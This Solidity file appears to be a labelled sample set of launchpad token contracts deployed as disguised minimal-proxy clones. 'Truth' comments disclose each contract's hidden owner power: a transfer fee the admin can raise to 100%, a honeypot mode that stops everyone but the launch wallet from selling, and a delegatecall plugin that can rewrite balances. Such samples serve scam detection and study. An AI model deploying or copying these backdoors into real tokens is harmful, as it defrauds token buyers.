// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

/// @title Tokens as a token maker's page gives them out: a clone of 45 bytes, initialized once, and launches so made.
/// Written on 30 November 2026, sixth look. The template is harmless by itself; `Truth` says what its heir is
/// @dev Each launch below is the act of making: what stays at its address is a clone of the code that it deploys first
library SixthClone {
    function become(address code, bytes memory initialization) internal {
        (bool isDone, ) = code.delegatecall(initialization);
        require(isDone, "initialize failed");
        bytes memory clone = abi.encodePacked(
            hex"363d3d373d3d3d363d73",
            code,
            hex"5af43d82803e903d91602b57fd5bf3"
        );
        assembly {
            return(add(clone, 32), mload(clone))
        }
    }
}

abstract contract SixthMakerCode {
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);
    event Initialized(uint8 version);

    uint8 private _initialized;
    string public name;
    string public symbol;
    uint8 public decimals;
    address public owner;
    address public maker;
    uint256 public totalSupply;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    constructor() {
        _initialized = 255;
    }

    modifier onlyOwner() {
        require(msg.sender == owner, "Ownable: caller is not the owner");
        _;
    }

    function initialize(string calldata name_, string calldata symbol_, uint256 supply, address maker_) external {
        require(_initialized == 0, "Initializable: contract is already initialized");
        _initialized = 1;
        (name, symbol, decimals, owner, maker) = (name_, symbol_, 18, msg.sender, maker_);
        totalSupply = balanceOf[msg.sender] = supply;
        emit OwnershipTransferred(address(0), msg.sender);
        emit Transfer(address(0), msg.sender, supply);
        emit Initialized(1);
    }

    function renounceOwnership() external onlyOwner {
        emit OwnershipTransferred(owner, address(0));
        owner = address(0);
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        _transfer(msg.sender, to, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        uint256 granted = allowance[from][msg.sender];
        require(granted >= amount, "ERC20: insufficient allowance");
        if (granted != type(uint256).max) allowance[from][msg.sender] = granted - amount;
        _transfer(from, to, amount);
        return true;
    }

    function _transfer(address from, address to, uint256 amount) internal virtual {
        _move(from, to, amount);
    }

    function _move(address from, address to, uint256 amount) internal {
        require(to != address(0), "ERC20: transfer to the zero address");
        require(balanceOf[from] >= amount, "ERC20: transfer amount exceeds balance");
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        emit Transfer(from, to, amount);
    }
}

/// @dev The page that makes tokens. Its fee is of no use to a token that does not ask it.
contract SixthTokenMaker {
    address public immutable admin;
    uint256 public platformFeeBps = 30;
    address public plugin;

    constructor(address admin_) {
        admin = admin_;
    }

    function setPlatformFee(uint256 bps) external {
        require(msg.sender == admin, "admin only");
        platformFeeBps = bps;
    }

    function setPlugin(address plugin_) external {
        require(msg.sender == admin, "admin only");
        plugin = plugin_;
    }
}

contract SixthPlatformFeeCode is SixthMakerCode {
    function _transfer(address from, address to, uint256 amount) internal override {
        address platform = SixthTokenMaker(maker).admin();
        uint256 fee = from == platform ? 0 : (amount * SixthTokenMaker(maker).platformFeeBps()) / 10_000;
        if (fee > 0) _move(from, platform, fee);
        _move(from, to, amount - fee);
    }
}

/// @dev Truth: one person. The maker's page takes a fee of each transfer, and its admin sets that for all its tokens,
/// up to everything.
contract MintyFreshPup {
    constructor() {
        SixthTokenMaker maker = new SixthTokenMaker(msg.sender);
        SixthClone.become(
            address(new SixthPlatformFeeCode()),
            abi.encodeCall(SixthMakerCode.initialize, ("Minty Fresh Pup", "MINTY", 1_000_000 ether, address(maker)))
        );
    }
}

contract SixthModeCode is SixthMakerCode {
    uint256 public constant MODE_NORMAL = 0;
    uint256 public constant MODE_TRANSFER_RESTRICTED = 1;
    uint256 public constant MODE_TRANSFER_CONTROLLED = 2;
    uint256 public mode;

    function setMode(uint256 mode_) external {
        require(msg.sender == maker && mode_ <= MODE_TRANSFER_CONTROLLED, "Launchpad only");
        mode = mode_;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        if (mode == MODE_TRANSFER_RESTRICTED) revert("Token: Transfer is restricted");
        if (mode == MODE_TRANSFER_CONTROLLED) require(from == maker || to == maker, "Token: Invalid transfer");
        super._transfer(from, to, amount);
    }
}

/// @dev Truth: one person. The launch page's modes before listing can be put back after it, by its wallet: then nobody
/// sells but the page.
contract MemePadPigeon {
    constructor() {
        SixthClone.become(
            address(new SixthModeCode()),
            abi.encodeCall(SixthMakerCode.initialize, ("Meme Pad Pigeon", "COO", 1_000_000_000 ether, msg.sender))
        );
    }
}

contract SixthPluginCode is SixthMakerCode {
    function _transfer(address from, address to, uint256 amount) internal override {
        address plugin = SixthTokenMaker(maker).plugin();
        if (plugin != address(0)) {
            (bool isDone, ) = plugin.delegatecall(
                abi.encodeWithSignature("beforeTransfer(address,address,uint256)", from, to, amount)
            );
            require(isDone, "Plugin: refused");
        }
        super._transfer(from, to, amount);
    }
}

/// @dev Truth: one person. The maker's admin gives the token a plugin later, whose code then runs in the token's place
/// at each transfer: it refuses, or writes balances.
contract PluginParrot {
    constructor() {
        SixthTokenMaker maker = new SixthTokenMaker(msg.sender);
        SixthClone.become(
            address(new SixthPluginCode()),
            abi.encodeCall(SixthMakerCode.initialize, ("Plugin Parrot", "PLUG", 88_888_888 ether, address(maker)))
        );
    }
}
